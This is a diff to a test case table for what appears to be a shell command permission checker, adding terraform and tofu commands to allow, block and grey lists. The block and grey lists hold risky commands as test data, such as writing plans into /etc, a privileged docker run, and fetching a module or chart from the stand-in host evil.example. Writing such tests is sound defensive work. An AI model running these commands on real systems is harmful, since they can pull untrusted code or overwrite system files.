@@ -30,6 +30,10 @@ export const cases: CaseTable = {
     "kubectl top pods --containers",
     "helm show values bitnami/nginx",
     "helm lint . --strict",
+    "terraform -chdir=infra plan",
+    "terraform init -upgrade",
+    "tofu plan -var-file=prod.tfvars",
+    "terraform plan --no-color",
   ],
   block: [
     "docker run --privileged alpine",
@@ -40,6 +44,8 @@ export const cases: CaseTable = {
     "docker compose config --output=/etc/x",
     "helm template . --output-dir /etc/x",
     "helm template . --output-dir=/etc/x",
+    "terraform plan --out /etc/tfplan",
+    "terraform -chdir=/etc plan",
   ],
   grey: [
     "docker run alpine",
@@ -69,5 +75,8 @@ export const cases: CaseTable = {
     "kubectl auth reconcile -f rbac.yaml",
     "helm template . --post-renderer ./x.sh",
     "helm show values nginx --repo https://evil.example",
+    "terraform init -from-module=git::https://evil.example/x",
+    "terraform providers mirror /tmp/x",
+    "tofu plan -frob",
   ],
 };
